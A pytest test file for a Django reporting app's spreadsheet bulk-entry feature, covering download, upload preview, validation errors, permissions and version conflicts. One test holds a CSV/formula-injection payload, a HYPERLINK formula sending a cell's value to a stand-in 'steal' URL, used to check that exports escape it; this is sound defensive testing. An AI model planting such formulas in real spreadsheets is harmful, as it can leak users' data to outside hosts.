"""Bulk entry by spreadsheet: download the quarter's sheet, fill it offline,
upload, preview, apply — and every way a file can be wrong."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pyexcel_ods3
import pytest
from django.urls import reverse
from odf.opendocument import load as load_ods
from odf.table import Table, TableCell, TableRow

from agencies.models import Agency, Role, User
from agencies.services import role_grant
from measures.models import TargetValue
from reporting.models import Entry, EntryEvent, Obligation, ReportingPeriod
from reporting.selectors_entries import period_for, periods_of_year
from reporting.services import obligations_generate
from reporting.services.entries import EntryInput, entry_save, entry_submit
from reporting.services.periods import period_set_state, periods_ensure
from reporting.spreadsheets import row_key

from .conftest import find_measure
from .personas import user_with_role

pytestmark = pytest.mark.django_db

KEY = "項目代碼（請勿修改）"


_user = user_with_role


def _item(kind, agency="交通部"):
    """An obligation of ``agency`` whose entries are of ``kind``, and its period in 112 Q1."""
    periods = periods_of_year(112)
    for obligation in Obligation.objects.filter(year=112, agency__name=agency).select_related("indicator").order_by("pk"):
        if obligation.indicator.entry_kind() == kind:
            return obligation, period_for(periods, obligation.indicator.frequency, 1)
    raise AssertionError(f"no {kind} obligation for {agency}")


@pytest.fixture
def setup(plan112):
    obligations_generate(year=112)
    periods_ensure(year=112)
    quantity = Obligation.objects.get(year=112, agency__name="交通部", indicator__measure=find_measure(plan112, 7, "(五)"))
    return {
        "officer": _user("s_officer", "交通部", Role.OFFICER),
        "colleague": _user("s_officer2", "交通部", Role.OFFICER),
        "outsider": _user("s_outsider", "經濟部", Role.OFFICER),
        "aac": _user("s_aac", "法務部廉政署", Role.AAC_REVIEWER),
        "agency": Agency.objects.get(name="交通部"),
        "quantity": (quantity, ReportingPeriod.objects.get(year=112, frequency=quantity.indicator.frequency, number=1)),
        "ratio": _item("ratio"),
        "milestone": _item("milestone"),
        "text": _item("text"),
    }


def _key(pair):
    obligation, period = pair
    return row_key(obligation.pk, period.pk)


def _save(user, pair, version=None, **values):
    obligation, period = pair
    narrative = values.pop("narrative", "")
    return entry_save(obligation=obligation, period=period, user=user, data=EntryInput(values=values, narrative=narrative, expected_version=version))


def _download(client, agency, fmt="xlsx", year=112, quarter=1):
    return client.get(reverse("reporting:sheet_download", args=[agency.pk, year, quarter, fmt]))


def _snapshot():
    """Every entry as stored, and the history: compared before and after a refused upload."""
    entries = list(Entry.objects.order_by("pk").values_list("pk", "version", "state", "quantity", "numerator", "denominator", "milestone", "reached_on", "text", "narrative"))
    return entries, EntryEvent.objects.count()


# --------------------------------------------------------------- sheets


def _xlsx(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    worksheet = workbook["填報資料"]
    headers = {cell.value: cell.column for cell in worksheet[1]}
    rows = {worksheet.cell(row=r, column=headers[KEY]).value: r for r in range(2, worksheet.max_row + 1)}
    return workbook, worksheet, headers, rows


def _xlsx_cell(content, key, header):
    _workbook, worksheet, headers, rows = _xlsx(content)
    return worksheet.cell(row=rows[key], column=headers[header])


def _xlsx_fill(content, edits, *, add_column=None, drop_column=None):
    """Fill cells as a person would: {key: {header: value}}; a value starting with '=' is a formula."""
    workbook, worksheet, headers, rows = _xlsx(content)
    for key, cells in edits.items():
        for header, value in cells.items():
            worksheet.cell(row=rows[key], column=headers[header]).value = value
    if add_column:
        worksheet.cell(row=1, column=worksheet.max_column + 1).value = add_column
    if drop_column:
        worksheet.delete_cols(headers[drop_column])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _row_number(content, key):
    return _xlsx(content)[3][key]


def _ods_rows(content):
    data = pyexcel_ods3.get_data(io.BytesIO(content), file_type="ods")["填報資料"]
    headers = data[0]
    return headers, {row[headers.index(KEY)]: dict(zip(headers, row)) for row in data[1:] if row}


def _ods_fill(content, edits):
    """Filled and saved again by another program (pyexcel-ods3), as a person's office suite would."""
    book = pyexcel_ods3.get_data(io.BytesIO(content), file_type="ods")
    data = [list(row) for row in book["填報資料"]]
    headers = data[0]
    for row in data[1:]:
        row.extend([""] * (len(headers) - len(row)))
        for header, value in edits.get(row[headers.index(KEY)], {}).items():
            row[headers.index(header)] = value
    buffer = io.BytesIO()
    pyexcel_ods3.save_data(buffer, {"填報資料": data})
    return buffer.getvalue()


def _ods_formula(content, key, header, formula):
    """Put a real formula (table:formula) in one cell of the downloaded ODS."""
    document = load_ods(io.BytesIO(content))
    table = next(t for t in document.spreadsheet.getElementsByType(Table) if t.getAttribute("name") == "填報資料")
    rows = table.getElementsByType(TableRow)
    headers = ["".join(str(n) for n in cell.childNodes) for cell in rows[0].getElementsByType(TableCell)]
    for row in rows[1:]:
        cells = row.getElementsByType(TableCell)
        if str(cells[0].childNodes[0]) == key:
            cell = cells[headers.index(header)]
            cell.setAttribute("formula", f"of:{formula}")
            cell.setAttribute("valuetype", "float")
            cell.setAttribute("value", "3")
    buffer = io.BytesIO()
    document.write(buffer)
    return buffer.getvalue()


def _upload(client, content, name="填報資料.xlsx"):
    """Upload and open the preview; returns (preview response, preview URL)."""
    response = client.post(reverse("reporting:sheet_upload"), {"file": _file(content, name)})
    assert response.status_code == 302, getattr(response, "context", {}) and response.context["form"].errors
    preview = client.get(response.url)
    assert preview.status_code == 200
    return preview, response.url


def _file(content, name):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content)


def _rows_by_number(response):
    return {row.number: row for row in response.context["sheet"].rows}


# ------------------------------------------------------------- download


def test_the_download_lists_every_item_prefilled_with_what_is_entered(client, setup):
    entry = _save(setup["officer"], setup["quantity"], quantity="3", narrative="辦理廉政講習 3 場")
    _save(setup["officer"], setup["ratio"], numerator="2", denominator="5")
    client.force_login(setup["officer"])
    response = _download(client, setup["agency"])
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    content = response.content
    workbook, worksheet, headers, rows = _xlsx(content)
    assert list(headers)[:5] == [KEY, "執行措施", "績效衡量指標", "填報期間", "目標值"]
    assert list(headers)[-4:] == ["執行情形", "未達成原因及策進作為", "版本", "狀態"]
    assert {"本期數值", "分子", "分母", "辦理進度", "完成日期", "辦理情形"} <= set(headers)
    assert len(rows) == Obligation.objects.filter(year=112, agency=setup["agency"]).count()
    row = rows[_key(setup["quantity"])]
    cell = lambda header: worksheet.cell(row=row, column=headers[header]).value  # noqa: E731
    assert cell("本期數值") == 3 and cell("執行情形") == "辦理廉政講習 3 場"
    assert cell("版本") == entry.version and cell("狀態") == "草稿"
    assert cell("填報期間") == "112年第1季" and cell("分子") is None
    ratio_row = rows[_key(setup["ratio"])]
    assert worksheet.cell(row=ratio_row, column=headers["分子"]).value == 2
    assert worksheet.cell(row=ratio_row, column=headers["分母"]).value == 5
    assert worksheet.cell(row=rows[_key(setup["text"])], column=headers["狀態"]).value == "尚未填寫"
    # The key is hidden and locked; only the cells to fill in are open.
    assert worksheet.column_dimensions["A"].hidden and worksheet.protection.sheet
    assert worksheet.cell(row=row, column=headers[KEY]).protection.locked
    assert worksheet.cell(row=row, column=headers["版本"]).protection.locked
    assert not worksheet.cell(row=row, column=headers["本期數值"]).protection.locked
    assert worksheet.cell(row=row, column=headers["分子"]).protection.locked  # not this kind's column
    assert "填寫說明" in workbook.sheetnames


def test_the_ods_download_is_prefilled_too(client, setup):
    _save(setup["officer"], setup["quantity"], quantity="4", narrative="ODS 也帶入")
    client.force_login(setup["officer"])
    response = _download(client, setup["agency"], "ods")
    assert response.status_code == 200 and response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    headers, rows = _ods_rows(response.content)
    row = rows[_key(setup["quantity"])]
    assert row["本期數值"] == 4 and row["執行情形"] == "ODS 也帶入" and row["版本"] == 1
    assert len(rows) == Obligation.objects.filter(year=112, agency=setup["agency"]).count()
    assert b'table:protected="true"' in _ods_content_xml(response.content)


def _ods_content_xml(content):
    import zipfile

    return zipfile.ZipFile(io.BytesIO(content)).read("content.xml")


def test_text_that_looks_like_a_formula_is_written_as_text_and_comes_back_unchanged(client, setup):
    attack = '=HYPERLINK("http://example.com/steal?x="&A1,"按此")'
    _save(setup["officer"], setup["quantity"], quantity="1", narrative=attack)
    client.force_login(setup["officer"])
    xlsx = _download(client, setup["agency"]).content
    cell = _xlsx_cell(xlsx, _key(setup["quantity"]), "執行情形")
    assert cell.data_type == "s" and cell.value == "'" + attack
    ods = _download(client, setup["agency"], "ods").content
    assert b"table:formula" not in _ods_content_xml(ods)
    assert _ods_rows(ods)[1][_key(setup["quantity"])]["執行情形"] == "'" + attack
    # Uploaded again untouched, the escaping is undone: nothing changes.
    for content, name in ((xlsx, "a.xlsx"), (ods, "a.ods")):
        preview, _url = _upload(client, content, name)
        plan = preview.context["sheet"]
        assert not plan.has_errors and not plan.has_changes, [row.errors or row.changes for row in plan.rows if row.errors or row.changes]


def test_another_agencys_officer_cannot_download_agency_a(client, setup):
    client.force_login(setup["outsider"])
    assert _download(client, setup["agency"]).status_code == 404
    assert _download(client, setup["agency"], "ods").status_code == 404
    client.force_login(setup["aac"])  # national roles see every agency
    assert _download(client, setup["agency"]).status_code == 200


def test_the_officer_page_links_to_download_and_only_officers_to_upload(client, setup):
    client.force_login(setup["officer"])
    page = client.get(reverse("reporting:my_items"), {"year": "112", "quarter": "2"})
    assert reverse("reporting:sheet_download", args=[setup["agency"].pk, 112, 2, "xlsx"]) in page.text
    assert reverse("reporting:sheet_download", args=[setup["agency"].pk, 112, 2, "ods"]) in page.text
    assert reverse("reporting:sheet_upload") in page.text
    client.force_login(setup["aac"])
    page = client.get(reverse("reporting:my_items"), {"agency": setup["agency"].pk, "year": "112", "quarter": "2"})
    assert reverse("reporting:sheet_download", args=[setup["agency"].pk, 112, 2, "xlsx"]) in page.text
    assert reverse("reporting:sheet_upload") not in page.text
    assert client.get(reverse("reporting:sheet_upload")).status_code == 403


# ------------------------------------------------------------ round trip


def test_round_trip_xlsx_preview_then_apply_saves_every_row_with_history(client, setup):
    officer = setup["officer"]
    existing = _save(officer, setup["quantity"], quantity="1", narrative="第一版")
    client.force_login(officer)
    content = _download(client, setup["agency"]).content
    filled = _xlsx_fill(content, {
        _key(setup["quantity"]): {"本期數值": "５", "執行情形": "辦理講習 5 場"},  # full-width digit
        _key(setup["ratio"]): {"分子": 3, "分母": "1,200"},
        _key(setup["milestone"]): {"辦理進度": "已完成", "完成日期": "112/06/30"},
        _key(setup["text"]): {"辦理情形": "已完成宣導", "執行情形": "說明"},
    })
    before = _snapshot()
    preview, url = _upload(client, filled)
    assert _snapshot() == before  # the preview writes nothing
    plan = preview.context["sheet"]
    assert not plan.has_errors, [row.errors for row in plan.rows if row.errors]
    assert plan.counts == {"new": 3, "changed": 1, "unchanged": len(plan.rows) - 4, "error": 0}
    assert "本期數值：1 → 5" in preview.text and "執行情形：第一版 → 辦理講習 5 場" in preview.text
    assert "分母：— → 1200" in preview.text and "辦理進度：— → 已完成" in preview.text
    assert 'name="apply"' in preview.text

    response = client.post(url, {"apply": "1"})
    assert response.status_code == 302 and response.url.startswith(reverse("reporting:my_items"))
    existing.refresh_from_db()
    assert existing.quantity == 5 and existing.narrative == "辦理講習 5 場" and existing.version == 2
    saved = existing.events.order_by("pk").last()
    assert saved.action == "saved" and saved.actor == officer and saved.changes["quantity"] == ["1", "5"]
    ratio = Entry.objects.get(obligation=setup["ratio"][0], period=setup["ratio"][1])
    assert (ratio.numerator, ratio.denominator, ratio.updated_by) == (3, 1200, officer)
    milestone = Entry.objects.get(obligation=setup["milestone"][0], period=setup["milestone"][1])
    assert milestone.milestone == "done" and milestone.reached_on == datetime.date(2023, 6, 30)
    assert Entry.objects.get(obligation=setup["text"][0]).text == "已完成宣導"
    assert Entry.objects.count() == 4  # unchanged rows are not saved
    assert EntryEvent.objects.count() == before[1] + 4
    # The token is spent: applying again is not possible.
    assert client.post(url, {"apply": "1"}).status_code == 404


def test_round_trip_ods(client, setup):
    officer = setup["officer"]
    existing = _save(officer, setup["quantity"], quantity="2", narrative="ODS 第一版")
    client.force_login(officer)
    content = _download(client, setup["agency"], "ods").content
    filled = _ods_fill(content, {
        _key(setup["quantity"]): {"本期數值": 7, "執行情形": "改為 7"},
        _key(setup["ratio"]): {"分子": 1, "分母": 4},
        _key(setup["milestone"]): {"辦理進度": "進行中"},
    })
    preview, url = _upload(client, filled, "填報資料.ods")
    plan = preview.context["sheet"]
    assert not plan.has_errors, [row.errors for row in plan.rows if row.errors]
    assert plan.counts["new"] == 2 and plan.counts["changed"] == 1
    assert "本期數值：2 → 7" in preview.text
    assert client.post(url, {"apply": "1"}).status_code == 302
    existing.refresh_from_db()
    assert existing.quantity == 7 and existing.narrative == "改為 7" and existing.events.count() == 2
    assert Entry.objects.get(obligation=setup["ratio"][0]).denominator == 4
    assert Entry.objects.get(obligation=setup["milestone"][0]).milestone == "in_progress"


def test_an_untouched_download_changes_nothing(client, setup):
    _save(setup["officer"], setup["quantity"], quantity="1.5", narrative="多行\n說明")
    _save(setup["officer"], setup["milestone"], milestone="done", reached_on="2023-05-01")
    client.force_login(setup["officer"])
    for fmt in ("xlsx", "ods"):
        preview, url = _upload(client, _download(client, setup["agency"], fmt).content, f"a.{fmt}")
        plan = preview.context["sheet"]
        assert not plan.has_errors and not plan.has_changes, [(row.errors, row.changes) for row in plan.rows if row.errors or row.changes]
        assert 'name="apply"' not in preview.text


# --------------------------------------------------------- bad input


def _percent_quantity(setup):
    """A count indicator whose target is a percentage (as some plans print one)."""
    obligation = setup["quantity"][0]
    TargetValue.objects.filter(indicators=obligation.indicator, year=112).update(unit="%")
    return setup["quantity"]


BAD_CELLS = [
    # (case, item, {header: value}, column named, words of the message)
    ("letters", "quantity", {"本期數值": "三次"}, "本期數值", "不是數字"),
    ("letters-latin", "quantity", {"本期數值": "12abc"}, "本期數值", "不是數字"),
    ("negative", "quantity", {"本期數值": -2}, "本期數值", "不可為負數"),
    ("negative-text", "quantity", {"本期數值": "－３"}, "本期數值", "不可為負數"),
    ("numerator-above-denominator", "ratio", {"分子": 5, "分母": 3}, "分子", "不可大於分母"),
    ("zero-denominator", "ratio", {"分子": 0, "分母": 0}, "分母", "分母不可為 0"),
    ("percentage-above-100", "percent", {"本期數值": 120}, "本期數值", "百分比不可超過 100%"),
    ("date-outside-period", "milestone", {"辦理進度": "已完成", "完成日期": "2024-02-01"}, "完成日期", "完成日期須在本期間內"),
    ("bad-date", "milestone", {"辦理進度": "已完成", "完成日期": "六月底"}, "完成日期", "不是有效日期"),
    ("bad-milestone", "milestone", {"辦理進度": "快好了"}, "辦理進度", "辦理進度須為"),
    ("formula", "quantity", {"本期數值": "=1+2"}, "本期數值", "請輸入數值，不要使用公式"),
    ("formula-in-text", "quantity", {"執行情形": "=A1"}, "執行情形", "請輸入數值，不要使用公式"),
    ("column-of-another-kind", "quantity", {"分子": 3}, "分子", "此項指標不填「分子」"),
    ("edited-key", "quantity", {KEY: "O1-P-1"}, KEY, "不是有效的項目代碼"),
    ("edited-version", "quantity", {"版本": "最新"}, "版本", "不是版本編號"),
]


@pytest.mark.parametrize("case,item,cells,column,words", BAD_CELLS, ids=[case[0] for case in BAD_CELLS])
def test_a_bad_cell_is_named_by_row_and_column_and_nothing_is_written(client, setup, case, item, cells, column, words):
    pair = _percent_quantity(setup) if item == "percent" else setup[item]
    _save(setup["officer"], setup["text"], text="先前的內容")  # an entry that must survive untouched
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    number = _row_number(content, _key(pair))
    # Another row is fine and would be saved: all or nothing.
    filled = _xlsx_fill(content, {_key(pair): cells, _key(setup["text"]): {"辦理情形": "新的內容"}})
    before = _snapshot()
    preview, url = _upload(client, filled)
    expected = f"第 {number} 列「{column}」欄"
    errors = [message for row in preview.context["sheet"].rows for _column, message in row.errors]
    assert any(expected in message and words in message for message in errors), errors
    assert expected in preview.text and words in preview.text
    assert 'name="apply"' not in preview.text
    response = client.post(url, {"apply": "1"})  # forced anyway
    assert response.status_code == 200 and words in response.text
    assert _snapshot() == before


def test_a_formula_in_an_ods_cell_is_refused(client, setup):
    client.force_login(setup["officer"])
    content = _ods_formula(_download(client, setup["agency"], "ods").content, _key(setup["quantity"]), "本期數值", "1+2")
    before = _snapshot()
    preview, url = _upload(client, content, "a.ods")
    assert "「本期數值」欄" in preview.text and "請輸入數值，不要使用公式" in preview.text
    assert client.post(url, {"apply": "1"}).status_code == 200
    assert _snapshot() == before


def test_an_extra_column_is_named(client, setup):
    client.force_login(setup["officer"])
    content = _xlsx_fill(_download(client, setup["agency"]).content, {_key(setup["quantity"]): {"本期數值": 1}}, add_column="備註")
    before = _snapshot()
    preview, url = _upload(client, content)
    assert "無法辨識的欄位：備註" in preview.text and "第 1 列" in preview.text
    client.post(url, {"apply": "1"})
    assert _snapshot() == before


@pytest.mark.parametrize("column", ["分母", "執行情形", "版本", KEY])
def test_a_missing_column_is_named(client, setup, column):
    client.force_login(setup["officer"])
    content = _xlsx_fill(_download(client, setup["agency"]).content, {_key(setup["quantity"]): {"本期數值": 1}}, drop_column=column)
    before = _snapshot()
    preview, url = _upload(client, content)
    assert f"「{column}」" in preview.text and "缺少" in preview.text
    assert not preview.context["sheet"].rows or preview.context["sheet"].has_errors
    client.post(url, {"apply": "1"})
    assert _snapshot() == before


def test_a_value_typed_in_a_column_without_a_header_is_named(client, setup):
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    workbook, worksheet, headers, rows = _xlsx(content)
    worksheet.cell(row=rows[_key(setup["quantity"])], column=len(headers) + 2).value = 9
    buffer = io.BytesIO()
    workbook.save(buffer)
    preview, _url = _upload(client, buffer.getvalue())
    assert "沒有欄位名稱" in preview.text and preview.context["sheet"].has_errors


def test_another_agencys_officer_cannot_upload_agency_as_sheet(client, setup):
    client.force_login(setup["officer"])
    content = _xlsx_fill(_download(client, setup["agency"]).content, {_key(setup["quantity"]): {"本期數值": 9}})
    client.force_login(setup["outsider"])
    before = _snapshot()
    preview, url = _upload(client, content)
    plan = preview.context["sheet"]
    assert plan.rows and all(row.status == "error" for row in plan.rows)
    number = _row_number(content, _key(setup["quantity"]))
    assert f"第 {number} 列「{KEY}」欄" in preview.text and "不是本機關可填報的項目" in preview.text
    assert "交通部" not in " ".join(message for row in plan.rows for _c, message in row.errors)
    assert client.post(url, {"apply": "1"}).status_code == 200
    assert _snapshot() == before and not Entry.objects.exists()


def test_a_locked_period_refuses_changes_but_not_an_unchanged_row(client, setup):
    _save(setup["officer"], setup["quantity"], quantity="1")
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    period_set_state(period=setup["quantity"][1], state=ReportingPeriod.State.LOCKED, user=setup["aac"])
    before = _snapshot()
    preview, _url = _upload(client, content)
    assert not preview.context["sheet"].has_errors  # nothing asked to change
    filled = _xlsx_fill(content, {_key(setup["quantity"]): {"本期數值": 2}})
    preview, url = _upload(client, filled)
    number = _row_number(content, _key(setup["quantity"]))
    assert f"第 {number} 列「填報期間」欄" in preview.text and "已鎖定" in preview.text
    client.post(url, {"apply": "1"})
    assert _snapshot() == before
    # The new download says so and keeps the row's cells locked.
    fresh = _download(client, setup["agency"]).content
    assert "期間已鎖定" in _xlsx_cell(fresh, _key(setup["quantity"]), "狀態").value
    assert _xlsx_cell(fresh, _key(setup["quantity"]), "本期數值").protection.locked


def test_a_submitted_entry_cannot_be_changed_from_the_sheet(client, setup):
    entry = _save(setup["officer"], setup["quantity"], quantity="2", narrative="已送出的說明")
    entry_submit(entry=entry, user=setup["officer"])
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    preview, _url = _upload(client, content)
    row = _rows_by_number(preview)[_row_number(content, _key(setup["quantity"]))]
    assert row.status == "unchanged" and "已送出" in row.note  # reported, not an error
    filled = _xlsx_fill(content, {_key(setup["quantity"]): {"本期數值": 3}})
    before = _snapshot()
    preview, url = _upload(client, filled)
    number = _row_number(content, _key(setup["quantity"]))
    assert f"第 {number} 列「狀態」欄" in preview.text and "不能修改" in preview.text
    client.post(url, {"apply": "1"})
    assert _snapshot() == before


def test_a_stale_version_is_detected(client, setup):
    _save(setup["officer"], setup["quantity"], quantity="1", narrative="我的版本")
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    _save(setup["colleague"], setup["quantity"], version=1, quantity="8", narrative="同事改的")  # after the download
    filled = _xlsx_fill(content, {_key(setup["quantity"]): {"本期數值": 2}})
    before = _snapshot()
    preview, url = _upload(client, filled)
    number = _row_number(content, _key(setup["quantity"]))
    assert f"第 {number} 列「版本」欄" in preview.text and "s_officer2" in preview.text and "重新下載" in preview.text
    client.post(url, {"apply": "1"})
    assert _snapshot() == before and Entry.objects.get().quantity == 8


def test_a_row_entered_by_someone_else_after_the_download_is_stale_too(client, setup):
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    _save(setup["colleague"], setup["ratio"], numerator="1", denominator="2")
    preview, _url = _upload(client, _xlsx_fill(content, {_key(setup["ratio"]): {"分子": 1, "分母": 3}}))
    assert "「版本」欄" in preview.text and preview.context["sheet"].has_errors


def test_apply_checks_the_file_again_and_writes_nothing_if_anything_changed_since_the_preview(client, setup):
    _save(setup["officer"], setup["quantity"], quantity="1")
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    filled = _xlsx_fill(content, {_key(setup["quantity"]): {"本期數值": 2}, _key(setup["ratio"]): {"分子": 1, "分母": 2}})
    preview, url = _upload(client, filled)
    assert not preview.context["sheet"].has_errors
    _save(setup["colleague"], setup["quantity"], version=1, quantity="6")  # between preview and apply
    before = _snapshot()
    response = client.post(url, {"apply": "1"})
    assert response.status_code == 200 and "沒有寫入任何資料" in response.text and "「版本」欄" in response.text
    assert _snapshot() == before
    assert not Entry.objects.filter(obligation=setup["ratio"][0]).exists()  # the good row was not written either


def test_a_repeated_row_is_refused(client, setup):
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    workbook, worksheet, headers, rows = _xlsx(content)
    source = rows[_key(setup["quantity"])]
    target = worksheet.max_row + 1
    for column in range(1, len(headers) + 1):
        worksheet.cell(row=target, column=column).value = worksheet.cell(row=source, column=column).value
    worksheet.cell(row=target, column=headers["本期數值"]).value = 4
    buffer = io.BytesIO()
    workbook.save(buffer)
    preview, _url = _upload(client, buffer.getvalue())
    assert f"第 {target} 列「{KEY}」欄" in preview.text and f"與第 {source} 列是同一個項目" in preview.text


# ------------------------------------------------------------ the pages


def test_a_file_that_is_not_a_spreadsheet_is_refused_at_upload(client, setup):
    client.force_login(setup["officer"])
    response = client.post(reverse("reporting:sheet_upload"), {"file": _file("機關,數值\n交通部,1\n".encode(), "a.csv")})
    assert response.status_code == 200 and "無法讀取這個檔案" in response.text


def test_only_the_uploader_opens_the_preview(client, setup):
    client.force_login(setup["officer"])
    _preview, url = _upload(client, _download(client, setup["agency"]).content)
    client.force_login(setup["colleague"])  # another session, even of the same agency
    assert client.get(url).status_code == 404
    client.force_login(setup["aac"])
    assert client.get(url).status_code == 403
    assert client.post(reverse("reporting:sheet_upload"), {"file": _file(b"x", "a.xlsx")}).status_code == 403


def test_percentage_cells_are_read_as_shown(client, setup):
    """85% typed into a percentage-formatted cell is stored as 0.85 by Excel."""
    pair = _percent_quantity(setup)
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    workbook, worksheet, headers, rows = _xlsx(content)
    cell = worksheet.cell(row=rows[_key(pair)], column=headers["本期數值"])
    cell.value, cell.number_format = 0.85, "0%"
    buffer = io.BytesIO()
    workbook.save(buffer)
    preview, url = _upload(client, buffer.getvalue())
    assert "本期數值：— → 85" in preview.text
    client.post(url, {"apply": "1"})
    assert Entry.objects.get().quantity == Decimal("85")



def test_emptied_key_cells_and_a_removed_header_row_are_named(client, setup):
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"]).content
    workbook, worksheet, headers, rows = _xlsx(content)
    for row in rows.values():
        worksheet.cell(row=row, column=headers[KEY]).value = None  # the whole first column empty
    worksheet.cell(row=rows[_key(setup["quantity"])], column=headers["本期數值"]).value = 2
    buffer = io.BytesIO()
    workbook.save(buffer)
    preview, _url = _upload(client, buffer.getvalue())
    number = rows[_key(setup["quantity"])]
    assert f"第 {number} 列「{KEY}」欄" in preview.text and "缺少項目代碼" in preview.text
    assert preview.context["sheet"].has_errors and not Entry.objects.exists()
    for emptied in (False, True):
        workbook, worksheet, headers, rows = _xlsx(content)
        if emptied:
            for cell in worksheet[1]:
                cell.value = None
        else:
            worksheet.delete_rows(1)  # the first data row moves up
        buffer = io.BytesIO()
        workbook.save(buffer)
        preview, _url = _upload(client, buffer.getvalue())
        assert "第 1 列應為欄位名稱" in preview.text


def test_an_ods_saved_by_libreoffice_with_repeated_cells_and_rows_is_read_by_its_row_numbers(client, setup):
    """LibreOffice writes runs of empty cells and rows as one element with a repeat count."""
    client.force_login(setup["officer"])
    content = _download(client, setup["agency"], "ods").content
    document = load_ods(io.BytesIO(content))
    table = next(t for t in document.spreadsheet.getElementsByType(Table) if t.getAttribute("name") == "填報資料")
    rows = table.getElementsByType(TableRow)
    headers = ["".join(str(n) for n in cell.childNodes) for cell in rows[0].getElementsByType(TableCell)]
    for row in rows:
        row.addElement(TableCell(numbercolumnsrepeated=16000))
    target = next(row for row in rows[1:] if str(row.getElementsByType(TableCell)[0].childNodes[0]) == _key(setup["quantity"]))
    number = rows.index(target) + 1
    blank = TableRow(numberrowsrepeated=3)
    blank.addElement(TableCell(numbercolumnsrepeated=1024))
    target.parentNode.insertBefore(blank, target)  # three empty rows above it
    cell = target.getElementsByType(TableCell)[headers.index("本期數值")]
    cell.setAttribute("valuetype", "string")
    from odf.text import P

    cell.addElement(P(text="兩場"))
    tail = TableRow(numberrowsrepeated=1048000)
    tail.addElement(TableCell(numbercolumnsrepeated=1024))
    table.addElement(tail)
    buffer = io.BytesIO()
    document.write(buffer)
    preview, _url = _upload(client, buffer.getvalue(), "a.ods")
    assert f"第 {number + 3} 列「本期數值」欄" in preview.text and "不是數字" in preview.text
    assert len(preview.context["sheet"].rows) == len(rows) - 1
